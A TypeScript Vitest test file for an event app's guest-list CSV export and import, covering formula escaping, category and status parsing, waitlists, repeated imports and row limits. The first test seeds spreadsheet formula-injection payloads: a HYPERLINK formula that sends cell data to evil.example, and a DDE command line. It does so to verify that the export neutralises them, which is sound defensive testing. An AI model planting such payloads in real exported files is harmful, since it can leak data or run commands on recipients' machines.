import { describe, expect, it } from "vitest";
import type { ImportReport } from "../../contract/guest-import.ts";
import type { GuestPage } from "../../contract/guests.ts";
import { importCsvAs } from "../test/guest-import.ts";
import { host, startHostApp, t } from "../test/host-app-setup.ts";
import { addInvitedGuest, createEvent } from "../test/new-event.ts";
import { settings } from "../test/rsvp-setup.ts";

startHostApp();

const newEvent = async () => (await createEvent(t, host.cookie)).id;

function importCsv(eventId: string, csv: string | Buffer, name = "guests.csv", type = "text/csv") {
  return importCsvAs(t, host.cookie, eventId, csv, { name, type });
}

async function allGuests(eventId: string): Promise<GuestPage> {
  return (await t.request(`/api/events/${eventId}/guests?pageSize=25`, { cookie: host.cookie })).json();
}

describe("CSV export opened in a spreadsheet", () => {
  it("writes formula-like cells as text, and reads them back unchanged", async () => {
    const id = await newEvent();
    const risky = [
      ['=HYPERLINK("https://evil.example/?"&A2,"Click")', "hyper@example.com", ""],
      ["+cmd|' /C calc'!A0", "calc@example.com", ""],
      ["-Anna-", "anna@example.com", "+91 98450 12345"],
      ["@SUM(1+1)", "at@example.com", ""],
      ["\tTabby", "tab@example.com", ""],
      ["Plain 'quoted' Name", "plain@example.com", ""],
    ];
    for (const [name, email, phone] of risky) {
      await t.request(`/api/events/${id}/guests`, {
        cookie: host.cookie,
        json: { name, email, phone: phone || null, status: "invited" },
      });
    }
    const exported = await (
      await t.request(`/api/events/${id}/guests/export`, { cookie: host.cookie })
    ).text();
    // No cell starts with a formula character: each such cell begins with an apostrophe.
    const cells = exported
      .replace(/^\uFEFF/, "")
      .trim()
      .split("\n")
      .slice(1)
      .flatMap((line) => line.split(",").map((c) => c.replace(/^"/, "")));
    for (const cell of cells) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(exported).toContain("'=HYPERLINK(");
    expect(exported).toContain("'+cmd|");
    expect(exported).toContain("'-Anna-");
    expect(exported).toContain("'+91 98450 12345");
    expect(exported).toContain("Plain 'quoted' Name");

    // The same file imported into another event gives the same names and phones.
    const other = await newEvent();
    const res = await importCsv(other, exported);
    expect(res.status).toBe(200);
    const people = async (eventId: string) =>
      (await allGuests(eventId)).items.map((g) => [g.name, g.phone ?? ""]).sort();
    expect(await people(other)).toEqual(await people(id));
    expect((await people(other)).map(([name]) => name)).toContain("-Anna-");
  });
});

describe("CSV import of a list kept by hand", () => {
  it("reads categories and statuses without regard to case, spacing or plural", async () => {
    const id = await newEvent();
    const csv = [
      "name,email,category,status",
      "Anu,anu@example.com,Friends,Confirmed ",
      "Bala,bala@example.com, VIP ,MAYBE",
      "Chitra,chitra@example.com,Colleagues,declined",
      "Dev,dev@example.com,Families,Wait listed",
      "Ela,ela@example.com,  OTHERS ,invited",
      "Faiz,faiz@example.com,Cousins,",
    ].join("\n");
    const report = (await (await importCsv(id, csv)).json()) as ImportReport;
    expect(report.inserted).toBe(5);
    expect(report.skipped).toEqual([
      {
        row: 7,
        name: "Faiz",
        email: "faiz@example.com",
        reasons: ['Unknown category "Cousins" (use family, friend, colleague, vip, other)'],
      },
    ]);
    const stored = (await allGuests(id)).items.map((g) => [g.name, g.category, g.status]).sort();
    expect(stored).toEqual([
      ["Anu", "friend", "confirmed"],
      ["Bala", "vip", "maybe"],
      ["Chitra", "colleague", "declined"],
      ["Dev", "family", "waitlisted"],
      ["Ela", "other", "invited"],
    ]);
  });

  it("keeps the waitlist through an export and an import, and a repeated import changes nothing", async () => {
    // One seat: the second guest to say yes waits for it.
    const id = await newEvent();
    await t.request(`/api/events/${id}/rsvp-settings`, {
      method: "PUT",
      cookie: host.cookie,
      json: settings({ capacity: 1 }),
    });
    const seated = await addInvitedGuest(t, host.cookie, id, { name: "Seated", email: "seated@example.com" });
    const waiting = await addInvitedGuest(t, host.cookie, id, {
      name: "Waiting",
      email: "waiting@example.com",
    });
    for (const { token } of [seated, waiting])
      await t.request(`/api/rsvp/${token}`, { method: "PUT", json: { response: "attending" } });
    const statuses = async (eventId: string) =>
      (await allGuests(eventId)).items.map((g) => [g.name, g.status]).sort();
    expect(await statuses(id)).toEqual([
      ["Seated", "confirmed"],
      ["Waiting", "waitlisted"],
    ]);
    const exported = await (
      await t.request(`/api/events/${id}/guests/export`, { cookie: host.cookie })
    ).text();

    const copy = await newEvent();
    const into = (await (await importCsv(copy, exported)).json()) as ImportReport;
    expect(into).toMatchObject({ inserted: 2, skipped: [] });
    expect(await statuses(copy)).toEqual(await statuses(id));

    const again = (await (await importCsv(id, exported)).json()) as ImportReport;
    expect(again).toMatchObject({ inserted: 0, updated: 0, unchanged: 2, skipped: [] });
    expect(again.messages).toEqual([
      { severity: "success", text: "0 new guests added, 0 updated, 2 unchanged" },
    ]);
    expect(await statuses(id)).toEqual([
      ["Seated", "confirmed"],
      ["Waiting", "waitlisted"],
    ]);
  });

  it("says how many rows of a repeated import were new, updated and unchanged", async () => {
    const id = await newEvent();
    const first = [
      "name,email,phone",
      "Anu,anu@example.com,",
      "Bala,bala@example.com,",
      "Chitra,chitra@example.com,",
    ];
    expect(((await (await importCsv(id, first.join("\n"))).json()) as ImportReport).messages).toEqual([
      { severity: "success", text: "Successfully imported 3 guests" },
    ]);
    const second = [
      ...first.slice(0, 3),
      "Chitra,chitra@example.com,+91 98450 12345",
      "Dev,dev@example.com,",
    ];
    const report = (await (await importCsv(id, second.join("\n"))).json()) as ImportReport;
    expect(report).toMatchObject({ inserted: 1, updated: 1, unchanged: 2 });
    expect(report.messages).toEqual([
      { severity: "success", text: "1 new guest added, 1 updated, 2 unchanged" },
    ]);
    expect((await allGuests(id)).total).toBe(4);
  });
});

describe("CSV import", () => {
  it("reads quoted commas, a BOM, CRLF, blank lines and extra columns; lowercases e-mails", async () => {
    const id = await newEvent();
    const csv = `\uFEFFName,Email,Phone,Category,Status,Notes\r\n"Verma, Rahul", Rahul@Example.COM ,+91 98765 43210,Friend,Confirmed,"likes ""chai"""\r\n\r\nSneha Iyer,sneha@example.com,,family,,\r\n`;
    const res = await importCsv(id, csv);
    expect(res.status).toBe(200);
    const report = (await res.json()) as ImportReport;
    expect(report).toMatchObject({ inserted: 2, updated: 0, skippedRows: [] });
    expect(report.messages).toEqual([{ severity: "success", text: "Successfully imported 2 guests" }]);
    const page = await allGuests(id);
    const rahul = page.items.find((g) => g.email === "rahul@example.com");
    expect(rahul).toMatchObject({
      name: "Verma, Rahul",
      phone: "+91 98765 43210",
      category: "friend",
      status: "confirmed",
    });
    expect(page.items.find((g) => g.email === "sneha@example.com")?.status).toBe("invited");
  });

  it("skips invalid rows and names them (header is row 1) in the spec's words", async () => {
    const id = await newEvent();
    const csv =
      "name,email,phone,category,status\nGood One,good@example.com,,,\n,nobody@example.com,,,\nBad Mail,not-an-email,,,\nBad Phone,phone@example.com,call me,,\nOk Two,ok2@example.com,,vip,maybe\n";
    const report = (await (await importCsv(id, csv)).json()) as ImportReport;
    expect(report.skippedRows).toEqual([3, 4, 5]);
    expect(report.messages.map((m) => m.text)).toEqual([
      "Successfully imported 2 guests",
      "Some rows (3, 4, 5) were skipped due to invalid data",
    ]);
  });

  it("updates guests already on the list instead of doubling them, keeping their name and reply", async () => {
    const id = await newEvent();
    await importCsv(id, "name,email,status\nAsha,asha@example.com,confirmed\n");
    const res = await importCsv(
      id,
      "name,email,phone,status\nAsha Rao,ASHA@example.com,12345,invited\nNew Person,new@example.com,,\n",
    );
    const report = (await res.json()) as ImportReport;
    expect(report).toMatchObject({ inserted: 1, updated: 1 });
    expect(report.messages.map((m) => m.text)).toEqual([
      "1 new guest added, 1 updated, 0 unchanged",
      "Names and statuses of 1 guest already on the list were left as they are",
    ]);
    const page = await allGuests(id);
    expect(page.total).toBe(2);
    expect(page.items.find((g) => g.email === "asha@example.com")).toMatchObject({
      name: "Asha",
      phone: "12345",
      status: "confirmed",
    });
  });

  it("answers a file with no valid row, an unparsable file and a non-CSV with the spec's texts", async () => {
    const id = await newEvent();
    const none = await importCsv(id, "name,email\n,\nx,bad\n");
    expect(none.status).toBe(400);
    expect((await none.json()).error.message).toBe("No valid guest data found in the CSV file");
    const broken = await importCsv(id, 'name,email\n"unclosed,a@example.com\n');
    expect((await broken.json()).error.message).toBe("Error parsing CSV file");
    const image = await importCsv(id, Buffer.from([0x89, 0x50, 0x4e, 0x47]), "photo.png", "image/png");
    expect(image.status).toBe(415);
    expect((await image.json()).error.message).toBe("Please upload a valid CSV file");
    expect((await allGuests(id)).total).toBe(0);
  });

  it("imports 10,000 rows in one request and pages through them", async () => {
    const id = await newEvent();
    const lines = ["name,email,phone,category,status"];
    for (let i = 1; i <= 10_000; i++)
      lines.push(`Guest ${i},guest${i}@example.com,+91 90000 ${String(i).padStart(5, "0")},friend,invited`);
    const report = (await (await importCsv(id, lines.join("\n"))).json()) as ImportReport;
    expect(report.inserted).toBe(10_000);
    const last = (await (
      await t.request(`/api/events/${id}/guests?page=400&pageSize=25`, { cookie: host.cookie })
    ).json()) as GuestPage;
    expect(last.total).toBe(10_000);
    expect(last.items).toHaveLength(25);
    expect(last.counts.invited).toBe(10_000);
  });

  it("refuses more than 10,000 rows without writing any", async () => {
    const id = await newEvent();
    const lines = ["name,email"];
    for (let i = 1; i <= 10_001; i++) lines.push(`G ${i},g${i}@example.com`);
    const res = await importCsv(id, lines.join("\n"));
    expect(res.status).toBe(400);
    expect((await res.json()).error.message).toBe("The file has more than 10,000 rows");
    expect((await allGuests(id)).total).toBe(0);
  });
});
